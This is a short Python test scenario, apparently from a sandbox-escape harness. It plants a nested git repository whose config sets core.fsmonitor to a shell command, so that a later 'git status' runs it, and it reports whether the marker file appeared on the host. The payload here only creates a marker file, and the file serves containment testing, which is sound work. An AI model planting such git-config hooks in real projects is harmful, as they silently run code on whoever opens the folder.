"""A repository of its own in a subdirectory, with a hook in its config: entered by an editor or a prompt, it runs."""

CLASS = "planted"
REQUIREMENT = "I1"
CONTROL = """
subprocess.run(["git", "init", "-q", WORK + "/src/vendor"], check=True)
with open(WORK + "/src/vendor/.git/config", "a") as file:
    file.write('[core]\\n\\tfsmonitor = "touch ' + HOST["outside"] + '/ran; false"\\n')
say(planted=True)
"""
ATTACK = CONTROL
LATER = """
if os.path.isdir(WORK + "/src/vendor"):
    subprocess.run(["git", "-C", WORK + "/src/vendor", "status"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""


def observe(before, after):
    if after["outside"] != before["outside"]:
        return "ESCAPED", "it was executed on the host"
    if after["findings"]:
        return "DETECTED", ", ".join(after["findings"])
    return "CONTAINED", "nothing of it was handed back"
